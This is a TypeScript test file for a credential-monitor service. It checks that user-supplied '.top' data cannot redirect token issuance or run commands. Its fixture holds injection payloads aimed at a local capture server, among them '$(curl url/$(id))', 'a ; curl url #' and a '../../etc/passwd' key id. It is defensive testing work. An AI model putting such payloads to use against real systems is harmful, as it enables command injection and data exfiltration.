// R26 for the sources that ask nobody themselves: what is in `.top` is at most handed
// on as it is, and steers nothing.
import { generateKeyPairSync } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { verifyWithPem } from '@credmon/test-fixtures/servers/verify-token';
import {
  startCaptureServer,
  type CaptureServer,
} from '@credmon/test-fixtures/servers/capture-server';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { accessPoint, type AccessPoint } from '../support/access-point.ts';

let thief: CaptureServer;
let on: AccessPoint;
beforeEach(async () => {
  thief = await startCaptureServer();
  on = accessPoint();
});
afterEach(() => Promise.all([thief.close(), on.close()]));

/** Everything that a user could think of, a shell's words among it. */
function steering(): Record<string, unknown> {
  const { url } = thief;
  const shell = `$(curl ${url}/$(id))`;
  return {
    iss: url,
    issuer: url,
    token_url: `${url}/token`,
    vault_url: `https://trusted@127.0.0.1:${thief.port}/v1/x`,
    jwks_uri: `${url}/jwks`,
    redirect_uri: url,
    command: `curl ${url}`,
    scopes: `a ; curl ${url} #`,
    audience: shell,
    sub: 'root',
    kid: '../../etc/passwd',
    [shell]: `\`curl ${url}\``,
  };
}

it('R26 exec: with any .top only the configured program runs, with its own arguments, and gets .top unchanged', async () => {
  const said = on.secret('said', '');
  const program = on.secret(
    'program',
    `#!/bin/sh\necho "$#" > ${said}; cat >> ${said}; echo '{"access_token":"made-here"}'\n`,
    0o755,
  );
  on.configure({
    EXEC_CREDMON_PROVIDER_NAMES: 'own',
    EXEC_CREDMON_own_COMMAND: `${program} one two`,
  });
  const top = steering();
  on.store('alice/own.top', JSON.stringify(top));
  on.store('alice/own.meta', JSON.stringify({ client_id: 'x', token_url: thief.url }));
  await on.pass();
  const [count, ...input] = readFileSync(said, 'utf8').split('\n');
  expect([count, JSON.parse(input.join('\n'))]).toEqual([
    '2',
    expect.objectContaining({ user: 'alice', service: 'own', top }),
  ]);
  expect([thief.requests, on.sent, on.read('alice/own.use')['access_token']]).toEqual([
    [],
    [],
    'made-here',
  ]);
});

it('R26 local: with any .top the token is signed here, by the configured issuer, for its own user', async () => {
  const { privateKey, publicKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const key = on.secret('key.pem', privateKey.export({ format: 'pem', type: 'sec1' }).toString());
  on.configure({
    LOCAL_CREDMON_PROVIDER_NAMES: 'scitokens',
    LOCAL_CREDMON_PRIVATE_KEY: key,
    LOCAL_CREDMON_PUBLIC_KEY: join(key, '..', 'public.pem'),
    LOCAL_CREDMON_ISSUER: 'https://ap.example',
    LOCAL_CREDMON_TOKEN_AUDIENCE: 'https://data.example',
  });
  on.store('alice/scitokens.top', JSON.stringify(steering()));
  on.store('alice/scitokens.meta', JSON.stringify({ client_id: 'x', token_url: thief.url }));
  await on.pass();
  const pem = publicKey.export({ format: 'pem', type: 'spki' }).toString();
  expect(
    await verifyWithPem(pem, String(on.read('alice/scitokens.use')['access_token'])),
  ).toMatchObject({
    iss: 'https://ap.example',
    sub: 'alice',
    aud: ['https://data.example'],
    scope: 'read:/user/alice write:/user/alice',
  });
  expect([thief.requests, on.sent, existsSync(join(on.directory, 'alice/scitokens.top'))]).toEqual([
    [],
    [],
    true,
  ]);
});
